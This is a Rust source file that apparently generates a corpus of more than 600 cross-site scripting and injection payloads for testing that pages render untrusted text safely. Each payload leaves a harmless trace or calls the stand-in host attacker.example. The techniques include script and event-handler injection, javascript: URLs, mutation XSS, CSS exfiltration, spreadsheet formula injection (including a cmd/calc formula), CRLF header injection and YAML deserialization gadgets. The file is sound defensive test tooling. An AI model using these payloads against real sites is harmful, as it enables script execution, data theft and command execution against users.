//! Texts that would run a script, load something or lead elsewhere if a page did not treat them as
//! text. Each leaves a trace with its number: a script asks this host for `/t/<number>`, everything
//! else asks `attacker.example` for `/<number>`.

/// Host that no page may contact.
pub const ATTACKER: &str = "attacker.example";

/// Fewest payloads that there must be.
const FEWEST: usize = 600;

pub struct Payload {
    pub number: usize,
    /// Technique, as the name of the function that made it.
    pub class: &'static str,
    pub text: String,
}

/// Makes the payloads of a class. In each, `§` is replaced by a script that leaves a trace, and `¤`
/// by a URL on another host.
type Maker = fn() -> Vec<String>;

const CLASSES: &[(&str, Maker)] = &[
    ("script", script),
    ("handler", handler),
    ("url", url),
    ("load", load),
    ("mutation", mutation),
    ("breakout", breakout),
    ("json", json),
    ("template", template),
    ("css", css),
    ("document", document),
    ("markdown", markdown),
    ("encoding", encoding),
    ("spreadsheet", spreadsheet),
    ("line", line),
    ("namespace", namespace),
];

/// Returns the names of all classes.
pub fn classes() -> impl ExactSizeIterator<Item = &'static str> {
    CLASSES.iter().map(|(name, _)| *name)
}

/// Returns all payloads; each text is there once.
pub fn payloads() -> Vec<Payload> {
    let mut all: Vec<Payload> = Vec::new();
    let mut seen = std::collections::BTreeSet::new();
    for (class, make) in CLASSES {
        for pattern in make() {
            if seen.insert(pattern.clone()) {
                let number = all.len() + 1;
                all.push(Payload { number, class, text: filled(&pattern, number) });
            }
        }
    }
    assert!(all.len() >= FEWEST, "only {} payloads", all.len());
    all
}

/// Returns a pattern with the traces of a number.
pub fn filled(pattern: &str, number: usize) -> String {
    // No quotes, blanks or semicolons, so that it fits into any attribute.
    let script = format!("fetch(/t/+{number})");
    pattern.replace('§', &script).replace('¤', &format!("//{ATTACKER}/{number}"))
}

fn texts(patterns: &[&str]) -> Vec<String> {
    patterns.iter().map(|pattern| (*pattern).to_owned()).collect()
}

fn script() -> Vec<String> {
    texts(&[
        "<script>§</script>",
        "<SCRIPT>§</SCRIPT>",
        "<ScRiPt >§</sCrIpT >",
        "<script\n>§</script\t>",
        "<script/x>§</script/x>",
        "<script src=¤></script>",
        "<script src='¤'>",
        "<script/src=\"¤\"></script>",
        "<script src=https:¤></script>",
        "<script type=module>§</script>",
        "<script type=\"text/javascript\">§</script>",
        "<script type=module src=¤></script>",
        "<script defer src=¤></script>",
        "<script async src=¤></script>",
        "<script nomodule>§</script><script>§</script>",
        "<script>§",
        "<<script>§//<</script>",
        "<scr<script>ipt>§</scr</script>ipt>",
        "<script>/*\n*/§//</script>",
        "<script><!--\n§\n--></script>",
        "<script>//]]>\n§</script>",
        "<script charset=utf-7>§</script>",
        "<script x=\">\">§</script>",
        "<script>import('https:¤')</script>",
        "<script>location='https:¤'</script>",
        "<script>new Image().src='¤'</script>",
        "<script>document.write('<img src=¤>')</script>",
        "<script>navigator.sendBeacon('¤')</script>",
        "<script type=importmap>{\"imports\":{\"a\":\"¤\"}}</script>",
        "<script type=speculationrules>{\"prefetch\":[{\"urls\":[\"https:¤\"]}]}</script>",
        "<p><script>§</script></p>",
        "<b/><script>§</script>",
        "testo <script>§</script> testo",
    ])
}

/// Elements with an event that comes by itself, or by a focus; `@` is replaced by the handler.
const EVENTS: &[(&str, &str)] = &[
    ("<img~src=x~on@>", "error"),
    ("<img~src=data:image/gif;base64,R0lGODlhAQABAAAAACw=~on@>", "load"),
    ("<svg~on@>", "load"),
    ("<body~on@>", "load"),
    ("<video><source~on@></video>", "error"),
    ("<video~src=x~on@></video>", "error"),
    ("<audio~src=x~on@></audio>", "error"),
    ("<details~open~on@>x</details>", "toggle"),
    ("<input~autofocus~on@>", "focus"),
    ("<select~autofocus~on@></select>", "focus"),
    ("<textarea~autofocus~on@></textarea>", "focus"),
    ("<button~autofocus~on@>x</button>", "focus"),
    ("<a~href=#~autofocus~on@>x</a>", "focus"),
    ("<p~tabindex=0~autofocus~on@>x</p>", "focus"),
    ("<marquee~on@>x</marquee>", "start"),
    ("<style~on@></style>", "load"),
    ("<iframe~on@></iframe>", "load"),
    ("<object~data=x~on@></object>", "error"),
    ("<embed~src=x~on@>", "error"),
    ("<link~rel=stylesheet~href=x~on@>", "error"),
    ("<script~src=x~on@></script>", "error"),
    ("<input~type=image~src=x~on@>", "error"),
    ("<svg><animate~attributeName=x~dur=1s~on@></svg>", "begin"),
    ("<svg><image~href=x~on@></svg>", "error"),
    ("<div~contenteditable~autofocus~on@>x</div>", "focusin"),
    ("<p~on@>x</p>", "mouseover"),
];

const QUOTES: [(&str, &str); 5] =
    [("=", ""), ("=\"", "\""), ("='", "'"), (" = \"", "\""), ("=\n", "")];
const BLANKS: [&str; 5] = [" ", "/", "\n", "\t", "\u{c}"];

fn handler() -> Vec<String> {
    let mut all = Vec::new();
    for (at, (element, event)) in EVENTS.iter().enumerate() {
        for (number, (before, after)) in QUOTES.iter().enumerate() {
            let blank = BLANKS[(at + number) % BLANKS.len()];
            let handler = format!("on{event}{before}§{after}");
            // A slash behind a value without quotes would belong to the value.
            let last = if after.is_empty() && blank == "/" { " " } else { blank };
            let written = element.replace("~on@", &format!("{last}{handler}"));
            let written = written.replace("=x~", "=x ").replace('~', blank);
            all.push(if number == 3 {
                written.to_uppercase().replace("FETCH(/T/+", "fetch(/t/+")
            } else {
                written
            });
        }
    }
    all.extend(texts(&[
        "<img src=x onerror=`§`>",
        "<img src=x onerror=eval(unescape(/%66etch(%2ft%2f+0)/.source));§>",
        "<img src=\"x\"onerror=\"§\">",
        "<img/onerror='§'src=x>",
        "<IMG SRC=x ONERROR\t=\n§>",
        "<img src=x onerror\u{c}=§>",
        "<img src=x onerror=&#40;§&#41;>",
        "<img src=x onerror=&#x28;§&#x29;>",
        "<img src=x onerror=&lpar;§&rpar;>",
        "<img src=x one=1 onerror=§ two>",
        "<img src=x:x onerror=§>",
        "<image src=x onerror=§>",
        "<xss onmouseover=§ style=display:block>x</xss>",
        "<x onclick=§>x</x>",
        "<video onloadstart=§><source src=x></video>",
        "<svg onload=§//",
        "<img src=x onerror=§//",
        "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=§>x</p>",
        "<p ontransitionend=§ style=transition:all>x</p>",
        "<div onpointerrawupdate=§>x</div>",
        "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=§>x</p>",
    ]));
    all
}

const SCHEMES: &[&str] = &[
    "javascript:§",
    "JaVaScRiPt:§",
    "java\tscript:§",
    "java\nscript:§",
    "javascript\t:§",
    "&#106;avascript:§",
    "&#x6A;avascript:§",
    "&#0000106avascript:§",
    "java&Tab;script:§",
    "java&NewLine;script:§",
    "javascript&colon;§",
    "\u{1}javascript:§",
    " \u{c}javascript:§",
    "&#1;javascript:§",
    "javascript://%0a§",
    "vbscript:§",
    "data:text/html,<script>fetch(`https:¤`)</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='§'/>",
];

const CARRIERS: &[&str] = &[
    "<a href=\"%\">x</a>",
    "<a href='%' target=_top>x</a>",
    "<iframe src=\"%\"></iframe>",
    "<form action=\"%\"><button autofocus>x</button></form>",
    "<form><button formaction=\"%\">x</button></form>",
    "<object data=\"%\"></object>",
    "<embed src=\"%\">",
    "<map name=m><area href=\"%\"></map>",
    "<svg><a xlink:href=\"%\"><text>x</text></a></svg>",
    "<math href=\"%\">x</math>",
    "<base href=\"%\">",
    "<meta http-equiv=refresh content=\"0;url=%\">",
    "<img src=\"%\">",
    "<body background=\"%\">",
];

fn url() -> Vec<String> {
    let all = CARRIERS
        .iter()
        .flat_map(|carrier| SCHEMES.iter().map(|scheme| carrier.replace('%', scheme)));
    all.collect()
}

fn load() -> Vec<String> {
    let mut all = texts(&[
        "<img src=¤>",
        "<img src=' ¤'>",
        "<img src=\"https:¤\">",
        "<img src=\\\\attacker.example\\x>",
        "<img srcset='¤ 1x'>",
        "<img src=x srcset='x, ¤ 2x'>",
        "<img lowsrc=¤ dynsrc=¤ longdesc=¤>",
        "<picture><source srcset=¤><img src=x></picture>",
        "<video poster=¤></video>",
        "<video src=¤ autoplay></video>",
        "<video><source src=¤><track default src=¤></video>",
        "<audio src=¤ autoplay></audio>",
        "<iframe src=¤></iframe>",
        "<frameset><frame src=¤></frameset>",
        "<embed src=¤>",
        "<object data=¤></object>",
        "<object codebase=¤ classid=x></object>",
        "<applet code=x codebase=¤></applet>",
        "<portal src=¤></portal>",
        "<fencedframe config=¤></fencedframe>",
        "<bgsound src=¤>",
        "<input type=image src=¤>",
        "<body background=¤>",
        "<table background=¤><tr><td background=¤>x</td></tr></table>",
        "<a href=# ping=¤>x</a>",
        "<a href=¤ ping='¤' autofocus>x</a>",
        "<html manifest=¤>",
        "<head profile=¤>",
        "<base href=https:¤/><img src=relativo.png>",
        "<form action=¤ id=f></form><input form=f autofocus>",
        "<isindex action=¤>",
        "<q cite=¤>x</q><blockquote cite=¤>x</blockquote>",
        "<image src=¤>",
        "<svg><image href=¤></svg>",
        "<svg><image xlink:href=¤></svg>",
        "<svg><use href=¤#a></svg>",
        "<svg><filter><feImage href=¤></filter></svg>",
        "<svg><mpath href=¤#a></svg>",
        "<svg><script href=¤></script></svg>",
        "<meta http-equiv=refresh content='0; url=https:¤'>",
        "<meta http-equiv=refresh content=0;https:¤>",
        "<meta http-equiv=Set-Cookie content='a=b'>",
        "<meta http-equiv=Content-Security-Policy content=\"report-uri https:¤\">",
        "<meta name=referrer content=unsafe-url><img src=¤>",
        "<link rel=preload as=image imagesrcset='¤ 1x'>",
    ]);
    let rels = [
        "stylesheet",
        "alternate stylesheet",
        "preload as=script",
        "preload as=image",
        "preload as=font",
        "prefetch",
        "preconnect",
        "dns-prefetch",
        "icon",
        "manifest",
        "modulepreload",
        "prerender",
        "import",
        "apple-touch-icon",
        "pingback",
        "expect blocking=render",
        "compression-dictionary",
    ];
    all.extend(rels.iter().map(|rel| match rel.split_once(' ') {
        Some((name, more)) if more.contains('=') => format!("<link rel={name} {more} href=¤>"),
        Some(_) | None => format!("<link rel='{rel}' href=¤>"),
    }));
    all
}

/// Elements whose text is not parsed, or parsed in another way inside SVG or MathML.
const RAW: &[&str] = &[
    "style", "title", "textarea", "xmp", "iframe", "noembed", "noframes", "noscript", "script",
    "template", "option", "select",
];

const INSIDE: &[&str] = &[
    "",
    "<svg>",
    "<math>",
    "<math><mtext>",
    "<svg><desc>",
    "<svg><foreignObject>",
    "<select>",
    "<table>",
];

fn mutation() -> Vec<String> {
    let nested = INSIDE.iter().flat_map(|inside| {
        RAW.iter()
            .map(move |raw| format!("{inside}<{raw}><a title=\"</{raw}><img src=x onerror=§>\">"))
    });
    let mut all: Vec<String> = nested.collect();
    all.extend(texts(&[
        "<svg></p><style><a id=\"</style><img src=1 onerror=§>\">",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=§&gt;\">",
        "<math><mtext><table><mglyph><style><math><img src=x onerror=§>",
        "<math><mtext><mglyph><style></math><img src onerror=§>",
        "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style><img src onerror=§>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=§>",
        "<math><annotation-xml encoding=text/html><style><img src=x onerror=§></style></annotation-xml></math>",
        "<math><annotation-xml><foreignObject><img src=x onerror=§></foreignObject></annotation-xml></math>",
        "<svg><style><img/src=x onerror=§></style></svg>",
        "<svg><title><style><img src=x onerror=§>",
        "<svg><desc><template><style><a title=\"</style><img src onerror=§>\">",
        "<svg><p><style><a title=\"</style><img src=x onerror=§>\">",
        "<svg><g><style>&lt;img src=x onerror=§&gt;</style></g></svg>",
        "<svg><!--<a title=\"--><img src=x onerror=§>\">",
        "<svg><![CDATA[><img src=x onerror=§>]]></svg>",
        "<math><![CDATA[</math><img src=x onerror=§>]]>",
        "<select><template><style><!--</template><img title=\"--><img src=x onerror=§>\">",
        "<template><s></template><img src=x onerror=§>",
        "<table><caption><svg><title><table><caption></title><img src=x onerror=§>",
        "<p><svg><title><p><style><img title='</style><img src=x onerror=§>'>",
        "<noscript><style></noscript><img src=x onerror=§></style>",
        "<a><b><a><img src=x onerror=§>",
        "<table><tr><td><form><table></form></table><img src=x onerror=§>",
        "<b><p></b><img src=x onerror=§></p>",
        "<plaintext><img src=x onerror=§>",
        "<listing>&lt;img src=x onerror=§&gt;</listing>",
        "<pre>\n\n<img src=x onerror=§></pre>",
        "<svg><font color=x><img src=x onerror=§></font></svg>",
        "<math><b><img src=x onerror=§></b></math>",
        "<svg></br><img src=x onerror=§>",
        "<details><summary><table><img src=x onerror=§></table></summary></details>",
        "<x:script xmlns:x=http://www.w3.org/1999/xhtml>§</x:script>",
    ]));
    all
}

fn breakout() -> Vec<String> {
    let closers = [
        "title", "textarea", "style", "script", "noscript", "option", "select", "td", "a",
        "button", "svg", "template", "head", "body", "html", "details", "iframe", "xmp", "dl",
        "main", "time", "summary",
    ];
    let mut all: Vec<String> =
        closers.iter().map(|closer| format!("</{closer}><img src=x onerror=§>")).collect();
    all.extend(closers.iter().map(|closer| format!("\"></{closer}><svg onload=§>")));
    all.extend(texts(&[
        "\"><img src=x onerror=§>",
        "'><img src=x onerror=§>",
        "`><img src=x onerror=§>",
        "\"><script>§</script>",
        "'\"><svg/onload=§>",
        "\" onfocus=§ autofocus tabindex=0 x=\"",
        "' onfocus=§ autofocus tabindex=0 x='",
        "` onfocus=§ autofocus tabindex=0 x=`",
        "\"onmouseover=\"§",
        "x onerror=§ src=x",
        "x\" autofocus onfocus=\"§",
        "\" style=\"background:url(¤)",
        "\" src=\"¤\" href=\"¤\" x=\"",
        "\" formaction=\"javascript:§\" x=\"",
        "\" ping=\"¤\" x=\"",
        "\\\"><img src=x onerror=§>",
        "\\'><img src=x onerror=§>",
        "&quot;><img src=x onerror=§>",
        "&#34;><img src=x onerror=§>",
        "&quot; onfocus=&quot;§&quot; autofocus",
        "/><img src=x onerror=§>",
        "-->\"><img src=x onerror=§>",
        "--!><img src=x onerror=§>",
        "]]><img src=x onerror=§>",
        "?><img src=x onerror=§>",
        "*/</script><img src=x onerror=§>/*",
        "\"/><link rel=stylesheet href=¤><x x=\"",
        "\"><meta http-equiv=refresh content=\"0;https:¤\">",
        "\n\n<img src=x onerror=§>\n\n",
    ]));
    all
}

fn json() -> Vec<String> {
    texts(&[
        "</script><img src=x onerror=§>",
        "</ScRiPt ><img src=x onerror=§>",
        "</script/x><svg onload=§>",
        "<!--<script>",
        "<!--<script></script>--></script><img src=x onerror=§>",
        "\"};§;//",
        "\"-§-\"",
        "\\\"-§//",
        "\\\\\"-§//",
        "'-§-'",
        "`-${§}-`",
        "${§}",
        "\u{2028}§//",
        "\u{2029}§//",
        "\\u003c/script\\u003e<script>§</script>",
        "\"]}</script><script>§</script>",
        "\",\"@context\":\"https:¤\",\"a\":\"",
        "{\"__proto__\":{\"innerHTML\":\"<img src=x onerror=§>\"}}",
        "__proto__",
        "constructor",
    ])
}

fn template() -> Vec<String> {
    texts(&[
        "{{7*7}}",
        "{{ view | safe }}",
        "{{ t.admin_title }}",
        "{{ __tera_context }}",
        "{% include \"base.html\" %}",
        "{% raw %}<img src=x onerror=§>{% endraw %}",
        "{%- set a = 1 -%}",
        "{# <img src=x onerror=§> #}",
        "{{constructor.constructor('§')()}}",
        "{{ '<img src=x onerror=§>' | safe }}",
        "{{ <prose html={'<img src=x onerror=§>'}/> }}",
        "${{7*7}}",
        "#{7*7}",
        "<%= 7*7 %><img src=x onerror=§>",
        "{ $title }",
        "{ \"<img src=x onerror=§>\" }",
        "{ NUMBER(1, minimumFractionDigits: 9) }",
        "{ -term }",
        "{title}",
        "{searchTerms}<img src=x onerror=§>",
        "{search_term_string}",
        "[[${§}]]",
        "$&$1$`$'<img src=x onerror=§>",
        "%s%n%x<img src=x onerror=§>",
    ])
}

fn css() -> Vec<String> {
    texts(&[
        "</style><img src=x onerror=§>",
        "<style>@import '¤';</style>",
        "<style>@import url(¤);</style>",
        "<style>@\\69mport '¤';</style>",
        "<style>*{background:url(¤)}</style>",
        "<style>*{background:u\\72l(¤)}</style>",
        "<style>*{background:image-set('¤' 1x)}</style>",
        "<style>@font-face{font-family:x;src:url(¤)}*{font-family:x}</style>",
        "<style>*{cursor:url(¤),auto;list-style-image:url(¤)}</style>",
        "<style>@namespace url(¤);@document url(¤){}</style>",
        "<style>input[value^=a]{background:url(¤)}</style>",
        "<style><!--</style><img src=x onerror=§>",
        "<p style=\"background:url(¤)\">x</p>",
        "<p style=\"background-image:u\\72l(¤)\">x</p>",
        "<p style='x:expression(§)'>x</p>",
        "<p style='-moz-binding:url(¤#x);behavior:url(¤)'>x</p>",
        "<p style='list-style:url(¤);border-image:url(¤);mask:url(¤)'>x</p>",
        "<p style='position:fixed;inset:0;z-index:9999'>x</p>",
        "<ul style='content:url(¤)'><li>x</li></ul>",
        "*/}*{background:url(¤)}/*",
        "red;background:url(¤)",
    ])
}

fn document() -> Vec<String> {
    texts(&[
        "<meta http-equiv=refresh content=0;url=/t/refresh>",
        "<meta http-equiv='refresh' content='0;url=javascript:§'>",
        "<META HTTP-EQUIV=refresh CONTENT='0;URL=\"data:text/html,x\"'>",
        "<meta charset=utf-7>+ADw-img src=x onerror=§+AD4-",
        "<base href=https:¤>",
        "<base target=_top href=/t/base/>",
        "<iframe srcdoc='<script>§</script>'></iframe>",
        "<iframe srcdoc='&lt;script&gt;parent.§&lt;/script&gt;'></iframe>",
        "<iframe srcdoc=<svg/onload=parent.§>></iframe>",
        "<iframe name=x src=about:blank onload=§></iframe>",
        "<frameset onload=§><frame></frameset>",
        "<frameset onpageshow=§>",
        "<html onmouseover=§ lang=x>",
        "<head onload=§>",
        "<!doctype html><body onpageshow=§>",
        "<body onhashchange=§ onresize=§ onload=§>",
        "<?xml-stylesheet type=text/xsl href=¤?>",
        "<?x ><img src=x onerror=§>?>",
        "<!--><img src=x onerror=§>-->",
        "<!---><img src=x onerror=§>-->",
        "<!-- --!><img src=x onerror=§>-->",
        "<!--<!--><img src=x onerror=§>-->",
        "<!-- > <img src=x onerror=§> -->",
        "<!--[if true]><img src=x onerror=§><![endif]-->",
        "<!x><img src=x onerror=§>",
        "</ x><img src=x onerror=§>",
        "<![CDATA[<img src=x onerror=§>]]>",
        "<![CDATA[]]]]><![CDATA[><img src=x onerror=§>",
        "<!DOCTYPE x [<!ENTITY y SYSTEM \"https:¤\">]>&y;",
        "<!ELEMENT x ANY><img src=x onerror=§>",
        "<form id=x></form><button form=x formaction=javascript:§ autofocus>x</button>",
        "<input name=attributes><input name=innerHTML><form name=body>",
        "<a id=document></a><img name=currentScript><form name=getElementById>",
        "<slot onslotchange=§><p slot=x></p></slot>",
        "<p><template shadowrootmode=open><img src=x onerror=§></template></p>",
        "<dialog open onclose=§><form method=dialog><button autofocus>x</button></form></dialog>",
        "<object type=text/html data=¤><img src=x onerror=§></object>",
        "<embed type=image/svg+xml src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='§'/>\">",
    ])
}

fn markdown() -> Vec<String> {
    texts(&[
        "[a](javascript:§)",
        "[a]( javascript:§ )",
        "[a](<javascript:§>)",
        "[a](<java\tscript:§>)",
        "[a](javascript&#58;§)",
        "[a](javascript&colon;§)",
        "[a](JAVASCRIPT:§ \"b\")",
        "[a](java%0ascript:§)",
        "[a](\u{1}javascript:§)",
        "[a](data:text/html,<script>§</script>)",
        "[a](vbscript:§)",
        "[a](//attacker.example/x)",
        "[a](\\\\attacker.example\\x)",
        "[a](https:attacker.example)",
        "[a][b#]\n\n[b#]: javascript:§",
        "[b#]\n\n[b#]: <data:text/html,x> \"onmouseover=§\"",
        "<javascript:§>",
        "<JAVASCRIPT:§>",
        "<https://attacker.example/\"onmouseover=§>",
        "https://attacker.example/'\"><img/src=x/onerror=§>",
        "https://attacker.example/<script>§</script>",
        "www.attacker.example/\"onclick=§",
        "a@attacker.example\"><img src=x onerror=§>",
        "<a@attacker.example\"onmouseover=§>",
        "![x](¤)",
        "![x](https:¤)",
        "![x]( \u{a0}https:¤)",
        "![x](data:image/svg+xml,<svg/onload=§>)",
        "![x\" onerror=\"§](https://attacker.example/x.png)",
        "![x](https://attacker.example/x.png \"\\\" onerror=§\")",
        "[a](https://attacker.example \"\\\"onmouseover=§ x=\\\"\")",
        "[a](https://attacker.example '\"><img src=x onerror=§>')",
        "[![a](javascript:§)](javascript:§)",
        "```\" onmouseover=\"§\nx\n```",
        "```html\n<script>§</script>\n```",
        "~~~<img/src=x/onerror=§>\nx\n~~~",
        "`<img src=x onerror=§>`",
        "    <img src=x onerror=§>",
        "# x {#\"onmouseover=§ .y onclick=§}",
        "# x {onclick=\"§\" style=\"background:url(¤)\"}",
        "# <img src=x onerror=§>",
        "Titolo <svg onload=§>\n===",
        "a[^\"><img src=x onerror=§>]\n\n[^\"><img src=x onerror=§>]: b",
        "a[^n#]\n\n[^n#]: <img src=x onerror=§>",
        "| <img src=x onerror=§> |\n|---|\n| <svg onload=§> |",
        "|a|\n|:--\"onmouseover=§|\n|b|",
        "- [ ] <img src=x onerror=§>\n- [x] <input autofocus onfocus=§>",
        "> [!NOTE\"><img src=x onerror=§>]\n> x",
        "> [!NOTE]\n> <img src=x onerror=§>",
        "termine\n: <img src=x onerror=§>",
        "~~<img src=x onerror=§>~~",
        "$<img src=x onerror=§>$",
        "\\<img src=x onerror=§>",
        "&lt;img src=x onerror=§&gt;",
        "<a href=\"javascript:§\">x</a>",
        "<a href=\"https://attacker.example\" onclick=\"§\">x</a>",
        "<div markdown=1>[a](javascript:§)</div>",
        "[a](#\"onmouseover=§)",
        "[a](x\"onmouseover=§)",
        "***<img src=x onerror=§>***",
        "1. <img src=x onerror=§>\n   <svg onload=§>",
    ])
    .into_iter()
    .enumerate()
    // References and footnotes have a name of their own.
    .map(|(at, text)| text.replace("b#]", &format!("b{at}]")).replace("n#]", &format!("n{at}]")))
    .collect()
}

fn encoding() -> Vec<String> {
    texts(&[
        "+ADw-img src=x onerror=§+AD4-",
        "\u{c0}\u{bc}img src=x onerror=§>",
        "\u{fffd}<img src=x onerror=§>",
        "%3Cimg%20src=x%20onerror=§%3E",
        "%253Cimg src=x onerror=§%253E",
        "\\u003cimg src=x onerror=§\\u003e",
        "\\x3cimg src=x onerror=§\\x3e",
        "&lt;img src=x onerror=§&gt;",
        "&amp;lt;img src=x onerror=§&amp;gt;",
        "&#60;img src=x onerror=§&#62;",
        "&#x3c;svg onload=§&#x3e;",
        "&LT;img src=x onerror=§&GT;",
        "\u{ff1c}img src=x onerror=§\u{ff1e}",
        "\u{2039}img src=x onerror=§\u{203a}",
        "\u{fe64}img src=x onerror=§\u{fe65}",
        "<\u{0}img src=x onerror=§>",
        "<i\u{0}mg src=x onerror=§>",
        "<img\u{0}src=x onerror=§>",
        "<img src=x\u{0} onerror=§>",
        "<img src=x on\u{0}error=§>",
        "\u{202e}<img src=x onerror=§>\u{202c}",
        "\u{2066}\u{202e}>§=rorreno x=crs gmi<",
        "\u{feff}<img src=x onerror=§>",
        "<img src=x on\u{200b}error=§><img src=x onerror=§>",
        "<\u{ff53}cript>§</\u{ff53}cript>",
        "<\u{17f}cript>§</\u{17f}cript>",
        "<lin\u{212a} rel=stylesheet href=¤>",
        "<img src=x onerror=§\u{2028}>",
        "<img\u{85}src=x onerror=§>",
        "<img\u{b}src=x onerror=§>",
        "<img\u{a0}src=x onerror=§>",
        "\u{1b}[31m<img src=x onerror=§>\u{1b}]0;x\u{7}",
        "\u{8}\u{8}\u{7f}\u{9b}31m<img src=x onerror=§>",
        "\u{e0041}\u{e007f}<img src=x onerror=§>",
        "\u{1f3f4}<img src=x onerror=§>\u{1f469}\u{200d}",
        "e\u{301}\u{301}\u{301}<img src=x onerror=§>",
        "<!--\u{0}--><img src=x onerror=§>",
    ])
}

fn spreadsheet() -> Vec<String> {
    texts(&[
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"https:¤\")",
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u{a0}=1+1",
        "\u{200b}=1+1",
        "\u{feff}=1+1",
        "\u{b}=1+1",
        "\u{0}=1+1",
        "\u{2028}=1+1",
        "\u{3000}=1+1",
        "\u{85}+1+1",
        "a;=1+1",
        "a; =1+1",
        "a\t@SUM(1)",
        "a\n+1+1",
        "a\r\n-1+1",
        "a|=1+1",
        "a,=1+1",
        "\u{ff1d}1+1",
        "a;\u{ff1d}1+1",
        "\u{ff0b}1\u{ff0d}1",
        "\u{ff20}SUM(1)",
        "\"=1+1",
        "\"\";=1+1",
        "'=1+1",
        "\";=1+1;\"",
        "a\";\n=IMPORTXML(\"https:¤\",\"//a\")",
        "=WEBSERVICE(\"https:¤\")<img src=x onerror=§>",
    ])
}

fn line() -> Vec<String> {
    texts(&[
        "x\n/*\n  Set-Cookie: a=b",
        "x\r\nLocation: https:¤",
        "x\r\n\r\n<img src=x onerror=§>",
        "x /a https:¤ 301!",
        "/* https:¤ 301",
        "*",
        ":splat/*",
        "/:a/*",
        "x\nSitemap: https:¤",
        "x\nDisallow: /",
        "x\nBEGIN:VEVENT\nURL:https:¤\nEND:VEVENT",
        "x\n- y: !!js/function >\n    §",
        "x: y # z\n\"}\n",
        "--- \n!!python/object:os.system\n...",
        "&xxe; &#0; &#x1; &nbsp;",
        "]]></title><script xmlns='http://www.w3.org/1999/xhtml'>§</script>",
        "<?php §?><img src=x onerror=§>",
        "<!--#include virtual=\"¤\"--><img src=x onerror=§>",
        "../../../../index.html",
        "..\\..\\index.html?x=<img src=x onerror=§>",
        "\u{0}\u{1}\u{2}\u{1f}\u{7f}\u{80}\u{9f}x",
    ])
}

fn namespace() -> Vec<String> {
    texts(&[
        "<svg><script>§</script></svg>",
        "<svg><script>&#102;etch(/t/+0)</script><script>§</script></svg>",
        "<svg><script xlink:href=¤></script></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'><x:script xmlns:x='http://www.w3.org/2000/svg'>§</x:script></svg>",
        "<svg><animate attributeName=href values=javascript:§ /><a id=a><text>x</text></a></svg>",
        "<svg><a><animate attributeName=href from=javascript:§ to=javascript:§ /><text y=9>x</text></a></svg>",
        "<svg><set attributeName=onmouseover to=§ />x</svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='§'/></svg>#x\"/></svg>",
        "<svg><foreignObject><img src=x onerror=§></foreignObject></svg>",
        "<svg><foreignObject><iframe src=javascript:parent.§></iframe></foreignObject></svg>",
        "<svg><image href=x onerror=§></svg>",
        "<svg><style onload=§></style></svg>",
        "<svg><style>@import '¤';</style></svg>",
        "<svg><rect filter='url(¤#x)' fill='url(¤#y)'/></svg>",
        "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>§</handler></svg>",
        "<svg><discard onbegin=§ /></svg>",
        "<svg><animateTransform onbegin=§ attributeName=transform dur=1s></svg>",
        "<svg onload=§ onunload=§ onresize=§></svg>",
        "<svg/onload=§>",
        "<svg><svg onload=§>",
        "<svg><a xlink:href=javascript:§ target=_blank><rect width=99 height=99 /></a></svg>",
        "<math><maction actiontype=statusline xlink:href=javascript:§>x</maction></math>",
        "<math><mi xlink:href=\"javascript:§\">x</mi></math>",
        "<math><semantics><annotation-xml encoding='application/xhtml+xml'><img src=x onerror=§></annotation-xml></semantics></math>",
        "<math><mtext><img src=x onerror=§></mtext></math>",
        "<math><mi><svg onload=§></mi></math>",
    ])
}

/// URLs that `check` accepts, and some that it should not.
pub const URLS: &[&str] = &[
    "https:¤\"onmouseover=\"§",
    "https:¤'onmouseover='§",
    "https:¤\"><img/src=x/onerror=§>",
    "https:¤'><svg/onload=§>",
    "https:¤`onerror=§",
    "https:¤</script><script>§</script>",
    "https:¤?a=</a><img/src=x/onerror=§>",
    "https:¤#\"><script>§</script>",
    "https:¤;url=javascript:§",
    "https:¤,¤",
    "https:¤)%20url(¤",
    "https:¤\\\"-§//",
    "https:¤{{7*7}}${§}",
    "https:¤%22%3E%3Cimg%20src=x%20onerror=§%3E",
    "https:¤&quot;onmouseover=&quot;§",
    "https:¤;=1+1",
    "https://a\"b@attacker.example/",
    "https://attacker.example:443/\u{202e}gpj.exe",
    "https://attacker\u{3002}example/",
    "HTTPS://ATTACKER.EXAMPLE/\u{e8}",
    "https://[::1]/\"><img/src=x/onerror=§>",
    "javascript:§",
    "javascript://attacker.example/%0a§",
    " javascript:§",
    "java\nscript:§",
    "data:text/html,<script>§</script>",
    "vbscript:§",
    "¤",
    "/\\attacker.example",
    "https:attacker.example",
    "https:\\\\attacker.example",
    "mailto:a@attacker.example?body=<script>§</script>",
    "https://=1+1.attacker.example/",
    "\"><img src=x onerror=§>",
    "<script>§</script>",
    "{{7*7}}",
    "https:¤\r\nSet-Cookie:a=b",
    "https:¤ 301!",
];
